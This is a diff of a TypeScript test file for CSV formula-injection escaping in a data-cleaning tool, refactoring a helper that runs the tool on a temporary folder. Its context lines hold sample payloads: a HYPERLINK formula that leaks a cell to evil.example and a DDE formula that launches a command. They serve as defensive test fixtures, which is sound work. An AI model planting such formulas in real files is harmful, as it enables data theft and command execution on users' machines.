@@ -3,16 +3,10 @@
  * with a leading `'`; plain numbers stay numbers; quarantine.csv keeps the originals verbatim.
  * The outputs are parsed back with DuckDB's CSV reader, not ours.
  */
-import { mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
-import { tmpdir } from "node:os";
-import { dirname, join } from "node:path";
-import type { Manifest } from "@agensium/shared";
 import { DuckDBInstance } from "@duckdb/node-api";
 import { describe, expect, it } from "vitest";
-import { folderStore } from "../../src/engine/object-store.js";
-import { runToolOnStore } from "../../src/engine/run-tool.js";
 import { csvField } from "../../src/reports/csv-field.js";
-import { jobFor, recordingHooks, testConfig } from "../engine/b2-run.js";
+import { runToolOnFolder } from "../engine/folder-run.js";
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
 const DDE = "=cmd|' /C calc'!A0";
@@ -37,34 +31,11 @@ function live(cell: string | null): boolean {
   return cell !== null && /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);
 }
 
-function put(root: string, key: string, text: string): number {
-  mkdirSync(dirname(join(root, key)), { recursive: true });
-  writeFileSync(join(root, key), text);
-  return Buffer.byteLength(text);
-}
-
-async function runOn(tool: "clean-my-data" | "master-my-data", csv: string, parameters: object) {
-  const root = mkdtempSync(join(tmpdir(), "csv-injection-"));
-  const prefix = `users/usr_test/tasks/tsk_${Math.random().toString(36).slice(2, 10)}/`;
-  const key = `${prefix}inputs/primary.csv`;
-  const size = put(root, key, csv);
-  const parametersKey = `${prefix}parameters.json`;
-  put(root, parametersKey, JSON.stringify(parameters));
-  const { findTool } = await import("@agensium/shared");
-  const agents = findTool(tool)?.agents.map((a) => a.id) ?? [];
-  const job = jobFor(prefix, { key, size }, { tool_id: tool, agents, parameters_key: parametersKey });
-  await runToolOnStore({
-    job,
-    store: folderStore(root),
-    config: testConfig(),
-    signal: new AbortController().signal,
-    hooks: recordingHooks(),
-  });
-  const manifest = (await import(join(root, job.output_prefix, "manifest.json"), { with: { type: "json" } })).default as Manifest;
+async function runOn(toolId: "clean-my-data" | "master-my-data", csv: string, parameters: object) {
+  const { manifest, path } = await runToolOnFolder({ toolId, fileName: "primary.csv", content: csv, parameters });
   const csvs: Record<string, (string | null)[][]> = {};
-  for (const output of manifest.outputs) {
-    if (output.file_name.endsWith(".csv")) csvs[output.file_name] = await parseCsv(join(root, job.output_prefix, output.file_name));
-  }
+  for (const output of manifest.outputs)
+    if (output.file_name.endsWith(".csv")) csvs[output.file_name] = await parseCsv(path(output.file_name));
   return csvs;
 }
 
